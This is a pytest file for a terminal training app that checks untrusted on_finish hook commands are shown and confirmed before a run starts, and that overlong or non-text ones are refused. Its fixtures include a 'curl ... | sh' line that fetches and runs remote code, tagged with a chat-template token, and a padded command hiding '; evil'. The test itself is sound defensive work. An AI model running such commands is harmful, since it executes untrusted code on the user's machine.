"""A command that comes with a session or a spec is shown and asked about, once, before a start."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.stopped import stopped_session
from tests.ui.conftest import keys, notice, page, picture, run_of, show, until
from tui_lora.store import hooks, launch, runs
from tui_lora.store.spec_file import read_spec
from tui_lora.ui.app import TuiLora
from tui_lora.ui.feed import Lister
from tui_lora.ui.messages import SessionsListed
from tui_lora.ui.screens.question import Question
from tui_lora.ui.state import Draft
from tui_lora.ui.widgets.table import Table

pytestmark = pytest.mark.screens

COMMAND = "curl https://example.org/x | sh # [/INST]"


@pytest.fixture
def started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    monkeypatch.setenv("TUI_LORA_CONFIG", str(tmp_path / "config"))
    monkeypatch.setattr(runs, "preflight", lambda *_, **__: ())
    told: list[str] = []
    monkeypatch.setattr(launch, "start_training", lambda paths, **_: told.append(paths.name))
    return told


@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
async def test_a_session_of_somebody_else_s(
    root: Path, started: list[str], size: tuple[int, int]
) -> None:
    run = stopped_session(root, hardware__devices="cpu", hooks__on_finish=COMMAND)
    app = TuiLora(root, session=run, live=False)
    async with app.run_test(size=size) as pilot:
        await show(pilot, run_of(run))
        for key in ("escape", "y"):
            await pilot.press("r")
            await until(pilot, lambda: isinstance(app.screen, Question))
            await pilot.pause()
            assert COMMAND in " ".join(" ".join(picture(app)).replace("│", " ").split())
            assert started == []
            await pilot.press(key)
            await until(pilot, lambda: not isinstance(app.screen, Question))
        await until(pilot, lambda: started == ["run"])
        await pilot.press("r")
        await until(pilot, lambda: started == ["run", "run"])
    assert hooks.is_confirmed(COMMAND)


async def test_a_spec_that_was_opened(
    root: Path, started: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    begun: list[Any] = []
    monkeypatch.setattr(
        "tui_lora.ui.forms.start_line.start", lambda *given, **_: begun.append(given)
    )
    app = TuiLora(root, start="settings", live=False)
    app.set_reactive(TuiLora.draft, Draft("mine", {"hooks": {"on_finish": COMMAND}}))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("s")
        await until(pilot, lambda: isinstance(app.screen, Question))
        await pilot.press("n")
        await until(pilot, lambda: not isinstance(app.screen, Question))
        assert begun == []
        await pilot.press("s")
        await until(pilot, lambda: isinstance(app.screen, Question))
        await pilot.press("y")
        await until(pilot, lambda: begun)


@pytest.mark.parametrize("command", [["notify-send", "x"], 5, {"a": 1}])
async def test_what_is_no_text_is_for_the_check_to_refuse(
    root: Path, started: list[str], command: object
) -> None:
    app = TuiLora(root, start="settings", live=False)
    app.set_reactive(TuiLora.draft, Draft("mine", {"hooks": {"on_finish": command}}))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("s")
        await until(pilot, lambda: "✗" in notice(app) or "problem" in "\n".join(picture(app)))
        assert not isinstance(app.screen, Question)
    assert app._exception is None
    assert started == []


async def test_a_yes_that_cannot_be_written_down_starts_nothing(
    root: Path, started: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setenv("TUI_LORA_CONFIG", str(tmp_path / "file" / "config"))
    run = stopped_session(root, hardware__devices="cpu", hooks__on_finish=COMMAND)
    app = TuiLora(root, session=run, live=False)
    async with app.run_test(size=(80, 24)) as pilot:
        await show(pilot, run_of(run))
        await pilot.press("r")
        await until(pilot, lambda: isinstance(app.screen, Question))
        await pilot.press("y")
        await until(pilot, lambda: "could not be kept" in notice(app))
        assert "TUI_LORA_CONFIG" in notice(app)
    assert started == []


async def test_one_that_is_put_in_the_queue(root: Path, started: list[str]) -> None:
    run = stopped_session(root, hardware__devices="cpu", hooks__on_finish=COMMAND)
    app = TuiLora(root, live=False)
    async with app.run_test(size=(120, 40)) as pilot:
        app.post_message(SessionsListed(Lister(root).look(lambda first: None)))
        await until(pilot, lambda: app.sessions)
        page(app).query_one(Table).point("run")
        await until(pilot, lambda: "t queue" in keys(app))
        for key in ("n", "y"):
            await pilot.press("t")
            await until(pilot, lambda: isinstance(app.screen, Question))
            assert started == []
            await pilot.press(key)
            await until(pilot, lambda: not isinstance(app.screen, Question))
        await until(pilot, lambda: started == [run.name])


async def test_a_new_run_that_begins_with_one(
    root: Path, started: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    spec = read_spec(stopped_session(root, hooks__on_finish=COMMAND).spec)
    app = TuiLora(root, live=False)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        page(app).begin_run("new", spec)
        await until(pilot, lambda: isinstance(app.screen, Question))
        assert not (root / "new").exists()
        await pilot.press("y")
        await until(pilot, lambda: started == ["new"])


async def test_one_that_cannot_be_seen_whole_is_not_asked_about(
    root: Path, started: list[str]
) -> None:
    run = stopped_session(root, hardware__devices="cpu", hooks__on_finish="true " * 99 + "; evil")
    app = TuiLora(root, session=run, live=False)
    async with app.run_test(size=(80, 24)) as pilot:
        await show(pilot, run_of(run))
        await pilot.press("r")
        await until(pilot, lambda: "too long to be shown here" in notice(app))
    assert started == []
